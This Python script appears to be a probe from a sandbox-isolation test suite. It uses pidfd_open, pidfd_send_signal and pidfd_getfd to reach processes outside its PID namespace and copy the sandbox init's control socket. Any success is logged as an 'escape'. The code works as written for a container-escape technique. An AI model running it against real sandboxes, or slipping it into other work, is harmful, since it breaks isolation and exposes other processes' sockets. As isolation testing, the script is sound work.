"""Reach processes outside the pid namespace with pidfd_open/pidfd_send_signal, and copy init's control socket with pidfd_getfd."""
import os
import sys

from _attack import ESCAPES, NOTES, en, finish, init_pids, libc, sysc  # noqa: F401

import socket  # noqa: E402

SYS_pidfd_send_signal, SYS_pidfd_open, SYS_pidfd_getfd = 424, 434, 438


def main():
    own = {int(p) for p in os.listdir("/proc") if p.isdigit()}
    hidden = {}
    for var in ("FB_HOST_PID", "FB_DAEMON_PID"):
        if os.environ.get(var):
            hidden[int(os.environ[var])] = var
    for p in os.environ.get("FB_OTHER_HOST_PIDS", "").split(","):
        if p.strip():
            hidden[int(p)] = "other sandbox"
    if not hidden:
        print("ERROR: no host pids given")
        sys.exit(2)
    for pid, what in sorted(hidden.items()):
        if pid in own:
            continue
        fd, e = sysc(SYS_pidfd_open, pid, 0)
        if fd >= 0:
            r, e2 = sysc(SYS_pidfd_send_signal, fd, 0, None, 0)
            ESCAPES.append("pidfd_open(%d [%s]) gave a pidfd (signal 0: %s)" % (pid, what, "ok" if r == 0 else en(e2)))
            os.close(fd)
        else:
            NOTES.append("pidfd_open(%s=%d): %s" % (what, pid, en(e)))
    # init's listening socket is its fd 3; workers hold the daemon connection
    for pid in init_pids():
        pfd, e = sysc(SYS_pidfd_open, pid, 0)
        if pfd < 0:
            NOTES.append("pidfd_open(init pid %d): %s" % (pid, en(e)))
            continue
        for target in range(0, 8):
            fd, e = sysc(SYS_pidfd_getfd, pfd, target, 0)
            if fd >= 0:
                kind = os.readlink("/proc/self/fd/%d" % fd)
                detail = ""
                try:
                    s = socket.socket(fileno=fd)
                    detail = " (socket %s)" % (s.getsockname(),)
                    s.detach()
                except OSError:
                    pass
                ESCAPES.append("pidfd_getfd copied fd %d of forkbox-init pid %d: %s%s" % (target, pid, kind, detail))
                os.close(fd)
            elif target == 3:
                NOTES.append("pidfd_getfd(init pid %d, fd 3): %s" % (pid, en(e)))
        os.close(pfd)


if __name__ == "__main__":
    finish(main)
